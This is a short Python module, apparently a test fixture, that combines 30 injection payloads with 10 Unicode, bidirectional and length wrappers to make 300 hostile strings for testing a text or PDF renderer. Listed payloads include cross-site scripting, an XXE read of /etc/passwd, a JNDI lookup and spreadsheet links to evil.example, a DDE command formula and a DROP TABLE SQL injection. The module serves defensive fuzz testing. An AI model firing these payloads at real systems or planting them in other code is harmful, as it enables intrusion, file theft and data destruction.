"""300 texts that want to be more than text: markup, code, formulas, steering signs, sheer length."""

from itertools import product
from typing import Final

ATTACKS: Final = (
    "<b>bold</b>",
    "<font color='red' size=40>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='file:///etc/passwd'/>",
    "<a href='javascript:alert(1)'>here</a>",
    "<link href='https://evil.example'>",
    "<para><unichar code='8238'/></para>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</text></para></td></table>",
    "&lt;b&gt; &amp; &#x202e; &nbsp;",
    "<![CDATA[ x ]]>",
    "{{ 7 * 7 }}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s %(name)s %n {0} {name} {page}",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    ") Tj ET Q /JS (app.alert\\(1\\)) BT (",
    "endstream endobj 1 0 obj << /OpenAction << /S /JavaScript >> >>",
    "\\) \\\\ \\r\\n \\050",
    "/URI (https://evil.example) >>",
    "'; DROP TABLE verifications; --",
    "https://evil.example/?q=1",
    "ISA*00*          ~EB*1**30~",
    '"><svg onload=alert(1)>',
    "line\nbreak\r\nand\ttab",
    "\x00\x01\x07\x08\x1b[31m\x7f\x9b",
)
WRAPPERS: Final = (
    "{}",
    "Ana {} Testcase",
    "\u202e{}\u202c",  # the other way round
    "\u2066{}\u2069\u200b\u200d\ufeff",  # isolates, joiners, byte order mark
    "\uff1c{}\uff1e \u3042\u4f60\u597d \u0627\u0644 \U0001f480 \ud800",  # no letters of ours, half a pair
    "Jos\u00e9 Nu\u0303n\u0303ez Z\u0361\u034a\u0336\u0322 {}",  # accents upon accents
    "{}" + " and so on" * 30,
    "{}" * 40,
    "A" * 700 + "{}",
    "  {}  ",
)
HOSTILE: Final = tuple(wrapper.replace("{}", attack) for attack, wrapper in product(ATTACKS, WRAPPERS))
